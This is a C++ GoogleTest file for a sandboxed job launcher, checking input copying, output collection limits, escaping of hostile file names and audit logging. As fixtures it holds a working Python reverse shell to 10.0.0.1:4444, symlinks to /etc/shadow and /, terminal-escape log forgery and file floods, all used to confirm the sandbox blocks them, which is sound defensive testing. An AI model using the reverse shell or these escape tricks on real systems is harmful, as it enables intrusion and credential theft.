// Jobs: inputs copied into /work, stdin streamed in, files collected from /work with --output,
// and the hostile cases of that collection (symlinks, FIFOs, floods, oversized files).
#include <gtest/gtest.h>
#include <sys/stat.h>

#include <filesystem>
#include <map>
#include <sstream>

#include "harness.hpp"
#include "common/sha256.hpp"

using sandboxrun::testing::Exec;
using sandboxrun::testing::read_text;
using sandboxrun::testing::run_binary;
using sandboxrun::testing::run_program;
using sandboxrun::testing::TempDir;
using sandboxrun::testing::write_config;
namespace fs = std::filesystem;

namespace {

struct Job {
  Exec exec;
  nlohmann::json result;
};

// Runs `script` with --json plus `extra`, feeding `stdin_file` (when set) to the launcher's stdin.
Job run_job(const TempDir& d, const std::string& script, const std::vector<std::string>& extra,
            const std::string& stdin_file = "") {
  std::string cmd = "exec \"$0\"";
  std::vector<std::string> args{SANDBOXRUN_BIN, "--json", "--audit-log", d.path() + "/audit.log"};
  args.insert(args.end(), extra.begin(), extra.end());
  args.push_back(d.write("job.py", script));
  for (size_t i = 1; i < args.size(); ++i) cmd += " \"${" + std::to_string(i) + "}\"";
  if (!stdin_file.empty()) cmd += " < " + stdin_file;
  std::vector<std::string> sh{"-c", cmd};
  sh.insert(sh.end(), args.begin(), args.end());
  Job j;
  j.exec = run_program("/bin/sh", sh);
  j.result = nlohmann::json::parse(j.exec.out, nullptr, false);
  if (j.result.is_discarded()) j.result = nlohmann::json::object();
  return j;
}

std::map<std::string, nlohmann::json> by_path(const nlohmann::json& list) {
  std::map<std::string, nlohmann::json> m;
  for (const auto& e : list) m[e.value("path", "")] = e;
  return m;
}

// Every entry under dir, relative, with symlinks reported as such.
std::vector<std::string> tree(const std::string& dir) {
  std::vector<std::string> out;
  for (const auto& e : fs::recursive_directory_iterator(dir)) {
    std::string rel = fs::relative(e.path(), dir).string();
    if (e.is_symlink()) rel += " -> symlink";
    out.push_back(rel);
  }
  return out;
}

constexpr const char* kAnalysis = R"(
import csv, json, struct, sys, zlib
rows = list(csv.DictReader(open('data.csv')))
values = [float(r['value']) for r in rows]
extra = float(sys.stdin.read().strip())
# A real PNG, written by hand: matplotlib is not in the default image.
def chunk(kind, data):
    return struct.pack('>I', len(data)) + kind + data + struct.pack('>I', zlib.crc32(kind + data) & 0xffffffff)
w, h = 4, len(values)
raw = b''.join(b'\x00' + bytes([int(v) % 256] * 3 * w) for v in values)
png = b'\x89PNG\r\n\x1a\n' + chunk(b'IHDR', struct.pack('>IIBBBBB', w, h, 8, 2, 0, 0, 0)) \
    + chunk(b'IDAT', zlib.compress(raw)) + chunk(b'IEND', b'')
open('plot.png', 'wb').write(png)
json.dump({'n': len(values), 'sum': sum(values) + extra}, open('report.json', 'w'))
print('done')
)";

TEST(Jobs, AnalysisReadsInputAndStdinAndItsFilesComeBackWithTheirHashes) {
  TempDir d;
  std::string csv = d.write("data.csv", "name,value\na,10\nb,20\nc,30\n");
  std::string in = d.write("stdin.txt", "0.5\n");
  std::string out = d.path() + "/out";
  auto j = run_job(d, kAnalysis, {"--input", csv, "--stdin", "--output", out}, in);
  ASSERT_EQ(j.exec.exit_code, 0) << j.exec.err << j.exec.out;
  EXPECT_EQ(j.result["stdout"], "done\n");
  auto outputs = by_path(j.result["outputs"]);
  ASSERT_EQ(outputs.size(), 2u) << j.result["outputs"];  // data.csv was not changed: not copied back
  for (const char* name : {"plot.png", "report.json"}) {
    std::string bytes = read_text(out + "/" + name);
    ASSERT_FALSE(bytes.empty()) << name;
    EXPECT_EQ(outputs[name]["sha256"], sandboxrun::sha256_hex(bytes)) << name;
    EXPECT_EQ(outputs[name]["size"], bytes.size()) << name;
  }
  EXPECT_EQ(read_text(out + "/plot.png").substr(1, 3), "PNG");
  auto report = nlohmann::json::parse(read_text(out + "/report.json"));
  EXPECT_EQ(report["n"], 3);
  EXPECT_DOUBLE_EQ(report["sum"].get<double>(), 60.5);
  EXPECT_EQ(j.result["outputs_truncated"], false);
  auto inputs = by_path(j.result["inputs"]);
  ASSERT_EQ(inputs.count("data.csv"), 1u) << j.result["inputs"];
  EXPECT_EQ(inputs["data.csv"]["sha256"], sandboxrun::sha256_hex(read_text(csv)));
  // The chain covers what went in and what came out.
  std::string audit = read_text(d.path() + "/audit.log");
  EXPECT_NE(audit.find(outputs["plot.png"]["sha256"].get<std::string>()), std::string::npos);
  EXPECT_NE(audit.find(inputs["data.csv"]["sha256"].get<std::string>()), std::string::npos);
  auto verify = run_binary({"audit", "verify", "--log", d.path() + "/audit.log"});
  EXPECT_EQ(verify.exit_code, 0) << verify.out << verify.err;
}

TEST(Jobs, WithoutStdinFlagTheProgramReadsDevNull) {
  TempDir d;
  std::string in = d.write("stdin.txt", "secret\n");
  auto j = run_job(d, "import sys\nprint(repr(sys.stdin.read()))\n", {}, in);
  ASSERT_EQ(j.exec.exit_code, 0) << j.exec.err;
  EXPECT_EQ(j.result["stdout"], "''\n");
}

TEST(Jobs, HostileWorkTreeNeverReachesOutsideTheOutputDirAndCapsHold) {
  TempDir d;
  std::string config = write_config(d, "output_files_limit: 1000\noutput_bytes_limit: 1m\n");
  std::string out = d.path() + "/out";
  auto j = run_job(d, R"(
import os
os.symlink('/etc/shadow', 'shadow')
os.makedirs('a/b')
os.symlink('../../x', 'a/b/up')
os.symlink('/', 'root')
os.mkfifo('pipe')
open('big.bin', 'wb').write(b'x' * (2 << 20))
open('keep.txt', 'w').write('kept')
os.mkdir('many')
for i in range(10000):
    with open('many/f%05d' % i, 'w') as f:
        f.write('.')
)",
                   {"--config", config, "--output", out});
  ASSERT_EQ(j.exec.exit_code, 0) << j.exec.err << j.exec.out.substr(0, 2000);
  // Nothing was created beside the output directory, and nothing in it is a link.
  std::vector<std::string> beside;
  for (const auto& e : fs::directory_iterator(d.path())) beside.push_back(e.path().filename().string());
  std::sort(beside.begin(), beside.end());
  EXPECT_EQ(beside, (std::vector<std::string>{"audit.log", "audit.log.lock", "audit.yaml", "job.py", "objects",
                                              "out", "sandbox.yaml", "security.yaml"}))
      << nlohmann::json(beside);
  EXPECT_FALSE(fs::exists(d.path() + "/x"));
  for (const auto& e : tree(out)) EXPECT_EQ(e.find("symlink"), std::string::npos) << e;
  for (const char* host_path : {"shadow", "root", "a/b/up"}) EXPECT_FALSE(fs::exists(out + "/" + host_path)) << host_path;
  // The caps hold and are reported.
  const auto& outputs = j.result["outputs"];
  EXPECT_LE(outputs.size(), 1000u);
  size_t files = 0;
  uint64_t bytes = 0;
  for (const auto& e : fs::recursive_directory_iterator(out))
    if (e.is_regular_file()) {
      ++files;
      bytes += e.file_size();
    }
  EXPECT_EQ(files, outputs.size());
  EXPECT_LE(bytes, 1u << 20);
  EXPECT_FALSE(fs::exists(out + "/big.bin"));
  EXPECT_EQ(j.result["outputs_truncated"], true);
  EXPECT_GE(j.result["outputs_skipped_count"].get<uint64_t>(), 9000u + 4u);
  std::string skipped = j.result["outputs_skipped"].dump();
  for (const char* s : {"symbolic link to /etc/shadow", "symbolic link to ../../x", "symbolic link to /", "a FIFO",
                        "big.bin", "over output_files_limit"})
    EXPECT_NE(skipped.find(s), std::string::npos) << s << " in " << skipped;
  EXPECT_EQ(read_text(out + "/keep.txt"), "kept");
}

TEST(Jobs, LongOutputNamesCannotMakeTheRunUnauditable) {
  TempDir d;
  std::string out = d.path() + "/out";
  // 400 files whose paths are ~1000 bytes: 400 KB of names, more than a manifest may carry.
  auto j = run_job(d, R"(
import os
deep = '/'.join(['d' * 240] * 4)
os.makedirs(deep)
for i in range(400):
    open(os.path.join(deep, 'f%03d' % i), 'w').write('.')
)",
                   {"--output", out});
  ASSERT_EQ(j.exec.exit_code, 0) << j.exec.err;
  EXPECT_EQ(j.result["outputs_truncated"], true);
  EXPECT_LT(j.result["outputs"].size(), 400u);
  EXPECT_GT(j.result["outputs"].size(), 100u);
  EXPECT_NE(j.result["outputs_skipped"].dump().find("bytes of paths"), std::string::npos);
  auto verify = run_binary({"audit", "verify", "--log", d.path() + "/audit.log"});
  EXPECT_EQ(verify.exit_code, 0) << verify.out << verify.err;
  EXPECT_NE(read_text(d.path() + "/audit.log").find("\"event\":\"run_end\""), std::string::npos);
}

// Names and symlink targets are the program's words: reported escaped, so it cannot forge the
// launcher's own lines or clear the terminal, and a name that is not UTF-8 (which JSON and the
// audit log would carry as another string) is skipped rather than recorded under a lookalike.
TEST(Jobs, OutputNamesAreReportedEscapedAndNonUtf8NamesSkipped) {
  TempDir d;
  std::string out = d.path() + "/out";
  auto j = run_job(d, R"(
import os
os.symlink("\x1b[2J\nsandboxrun: audit log intact\r", "evil")
open(b"n0_\xc0\xaf", "w").write("a")
open("caf\u00e9.txt", "w").write("b")
)",
                   {"--output", out});
  ASSERT_EQ(j.exec.exit_code, 0) << j.exec.err;
  const std::string skipped = j.result["outputs_skipped"].dump();
  EXPECT_NE(skipped.find("symbolic link to \\\\x1b[2J\\\\x0asandboxrun: audit log intact\\\\x0d"), std::string::npos) << skipped;
  EXPECT_NE(skipped.find("n0_\\\\xc0\\\\xaf"), std::string::npos) << skipped;
  EXPECT_FALSE(fs::exists(out + "/n0_\xc0\xaf"));
  EXPECT_EQ(read_text(out + "/caf\u00e9.txt"), "b");
  EXPECT_EQ(j.result["outputs"].size(), 1u) << j.result["outputs"].dump();
}

// The walk over /work reads a bounded number of names (each is held until its directory is
// done): past it the rest is not looked at, and the report says so.
TEST(Jobs, OutputWalkReadsABoundedNumberOfNames) {
  TempDir d;
  std::string out = d.path() + "/out";
  auto j = run_job(d, "for i in range(20500):\n    open('f%05d' % i, 'w').close()\n", {"--output", out});
  ASSERT_EQ(j.exec.exit_code, 0) << j.exec.err;
  EXPECT_EQ(j.result["outputs_truncated"], true);
  EXPECT_NE(j.result["outputs_skipped"].dump().find("more than 20000 names under /work"), std::string::npos)
      << j.result["outputs_skipped"].dump().substr(0, 2000);
  EXPECT_LE(j.result["outputs_skipped_count"].get<uint64_t>(), 20000u);
}

// JSON strings are text: a stream that is not UTF-8 also comes back exactly, in base64; text
// cut by the output limit in the middle of a character is still text.
TEST(Jobs, BinaryOutputComesBackExactlyInBase64) {
  TempDir d;
  auto j = run_job(d, "import sys\nsys.stdout.buffer.write(bytes(range(256)))\nprint('\\u20ac' * 400000, file=sys.stderr)\n", {});
  ASSERT_EQ(j.exec.exit_code, 0) << j.exec.err;
  ASSERT_TRUE(j.result.contains("stdout_base64")) << j.result.dump().substr(0, 500);
  std::string all;
  for (int i = 0; i < 256; ++i) all.push_back(static_cast<char>(i));
  const auto b64 = j.result["stdout_base64"].get<std::string>();
  EXPECT_EQ(b64.substr(0, 8), "AAECAwQF") << b64.substr(0, 40);
  EXPECT_EQ(b64.size(), 344u);
  EXPECT_EQ(j.result["stderr_truncated"], true);
  EXPECT_FALSE(j.result.contains("stderr_base64")) << "a character cut at the limit is not binary";
}

TEST(Jobs, OutputDirectoryMustBeNewOrEmpty) {
  TempDir d;
  std::string out = d.path() + "/out";
  fs::create_directory(out);
  d.write("out/old", "x");
  auto j = run_job(d, "print(1)\n", {"--output", out});
  EXPECT_EQ(j.exec.exit_code, 125) << j.exec.err;
  EXPECT_NE(j.result.value("error", "").find("not empty"), std::string::npos) << j.result;
  fs::create_symlink(d.path(), d.path() + "/link");
  j = run_job(d, "print(1)\n", {"--output", d.path() + "/link"});
  EXPECT_EQ(j.exec.exit_code, 125) << j.exec.err;
}

TEST(Jobs, OutputsSurviveATimeout) {
  TempDir d;
  std::string out = d.path() + "/out";
  auto j = run_job(d, "import time\nopen('partial.txt', 'w').write('half way')\ntime.sleep(60)\n",
                   {"--timeout", "3", "--output", out});
  EXPECT_EQ(j.exec.exit_code, 124) << j.exec.err;
  EXPECT_EQ(j.result["status"], "timeout");
  EXPECT_EQ(read_text(out + "/partial.txt"), "half way");
  EXPECT_EQ(by_path(j.result["outputs"]).count("partial.txt"), 1u) << j.result["outputs"];
}

TEST(Jobs, InputModuleWithAReverseShellBlocksTheRun) {
  TempDir d;
  fs::create_directory(d.path() + "/lib");
  d.write("lib/helper.py", R"(import socket, subprocess, os
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("10.0.0.1", 4444))
os.dup2(s.fileno(), 0)
os.dup2(s.fileno(), 1)
os.dup2(s.fileno(), 2)
subprocess.call(["/bin/sh", "-i"])
)");
  auto j = run_job(d, "import helper\nprint('clean')\n", {"--input", d.path() + "/lib/helper.py"});
  EXPECT_EQ(j.exec.exit_code, 126) << j.exec.err << j.exec.out;
  EXPECT_EQ(j.result["status"], "blocked");
  EXPECT_EQ(j.result["assessment"]["level"], "BLOCKED");
  EXPECT_NE(j.result["assessment"]["findings"].dump().find("helper.py: "), std::string::npos)
      << j.result["assessment"];
  // The same module, passed inside a directory, is found too; a clean one runs and imports.
  j = run_job(d, "import lib.helper\n", {"--input", d.path() + "/lib"});
  EXPECT_EQ(j.exec.exit_code, 126) << j.exec.err;
  d.write("lib/helper.py", "VALUE = 42\n");
  j = run_job(d, "import helper\nprint(helper.VALUE)\n", {"--input", d.path() + "/lib/helper.py"});
  EXPECT_EQ(j.exec.exit_code, 0) << j.exec.err;
  EXPECT_EQ(j.result["stdout"], "42\n");
}

TEST(Jobs, InputsAreReadWithoutFollowingAnythingAndCapped) {
  TempDir d;
  d.write("real.txt", "data");
  fs::create_symlink(d.path() + "/real.txt", d.path() + "/link.txt");
  auto j = run_job(d, "print(1)\n", {"--input", d.path() + "/link.txt"});
  EXPECT_EQ(j.exec.exit_code, 125);
  EXPECT_NE(j.exec.err.find("link.txt is a symbolic link"), std::string::npos) << j.exec.err;
  fs::create_directory(d.path() + "/tree");
  ::mkfifo((d.path() + "/tree/fifo").c_str(), 0600);
  j = run_job(d, "print(1)\n", {"--input", d.path() + "/tree"});
  EXPECT_EQ(j.exec.exit_code, 125);
  EXPECT_NE(j.exec.err.find("fifo is a FIFO"), std::string::npos) << j.exec.err;
  std::string config = write_config(d, "input_limit: 1k\n");
  d.write("big.csv", std::string(2048, 'x'));
  j = run_job(d, "print(1)\n", {"--config", config, "--input", d.path() + "/big.csv"});
  EXPECT_EQ(j.exec.exit_code, 125);
  EXPECT_NE(j.exec.err.find("big.csv"), std::string::npos) << j.exec.err;
  EXPECT_NE(j.exec.err.find("input_limit"), std::string::npos) << j.exec.err;
  // A renamed input lands where asked, and a changed copy does not reach the host file.
  j = run_job(d, "import os\nprint(open('in/r.txt').read())\nopen('in/r.txt', 'w').write('changed')\n",
              {"--input", d.path() + "/real.txt:in/r.txt", "--output", d.path() + "/o"});
  EXPECT_EQ(j.exec.exit_code, 0) << j.exec.err;
  EXPECT_EQ(j.result["stdout"], "data\n");
  EXPECT_EQ(read_text(d.path() + "/real.txt"), "data");
  EXPECT_EQ(read_text(d.path() + "/o/in/r.txt"), "changed");
}

TEST(Jobs, CallerLabelsAndRunIdLandInEveryRecordAndTheResult) {
  TempDir d;
  const std::string log = d.path() + "/audit.log";
  auto j = run_job(d, "print('hi')\n",
                   {"--caller", "user-7@svc", "--label", "team=ml", "--label", "ticket=42", "--run-id", "job-0001"});
  ASSERT_EQ(j.exec.exit_code, 0) << j.exec.err;
  EXPECT_EQ(j.result["run_id"], "job-0001");
  EXPECT_EQ(j.result["caller"], "user-7@svc");
  EXPECT_EQ(j.result["labels"], nlohmann::json::parse(R"({"team":"ml","ticket":"42"})"));
  std::istringstream lines(read_text(log));
  size_t records = 0;
  for (std::string line; std::getline(lines, line);) {
    auto rec = nlohmann::json::parse(line);
    if (rec.value("run_id", "") != "job-0001") continue;
    ++records;
    EXPECT_EQ(rec["caller"], "user-7@svc") << line;
    EXPECT_EQ(rec["labels"]["team"], "ml") << line;
  }
  EXPECT_GE(records, 3u);
  const std::string before = read_text(log);
  j = run_job(d, "print('again')\n", {"--run-id", "job-0001"});
  EXPECT_EQ(j.exec.exit_code, 2) << j.exec.err;
  EXPECT_NE(j.result.value("error", "").find("already in the audit log"), std::string::npos) << j.exec.out;
  EXPECT_EQ(read_text(log), before) << "a refused run id must not be recorded";
  for (const std::vector<std::string>& bad : std::vector<std::vector<std::string>>{
           {"--run-id", "../x"}, {"--label", "novalue"}, {"--label", "bad key=1"}, {"--caller", "a\nb"}}) {
    j = run_job(d, "print(1)\n", bad);
    EXPECT_EQ(j.exec.exit_code, 2) << bad[0] << " " << bad[1] << ": " << j.exec.err;
  }
  run_job(d, "print(2)\n", {"--caller", "someone-else"});
  auto show = run_binary({"audit", "show", "--json", "--log", log, "--caller", "user-7@svc"});
  EXPECT_EQ(show.exit_code, 0) << show.err;
  EXPECT_NE(show.out.find("job-0001"), std::string::npos) << show.out;
  EXPECT_EQ(show.out.find("someone-else"), std::string::npos) << show.out;
  EXPECT_EQ(std::count(show.out.begin(), show.out.end(), '\n'), 1) << show.out;
}

TEST(Jobs, StreamedOutputIsCutAtTheLimitWithANotice) {
  TempDir d;
  std::string config = write_config(d, "output_limit: 1k\n");
  auto r = run_binary({"--config", config, "--audit-log", d.path() + "/audit.log",
                       d.write("job.py", "import sys\nsys.stdout.write('y' * 5000)\nprint('tail')\n")});
  EXPECT_EQ(r.exit_code, 0) << r.err;
  EXPECT_EQ(r.out.substr(0, 1024), std::string(1024, 'y'));
  EXPECT_NE(r.out.find("[sandboxrun: output cut at output_limit (1024 bytes)]"), std::string::npos) << r.out;
  EXPECT_LT(r.out.size(), 1200u);
  EXPECT_EQ(r.out.find("tail"), std::string::npos);
  EXPECT_NE(r.err.find("cut at output_limit"), std::string::npos) << r.err;
}

}  // namespace
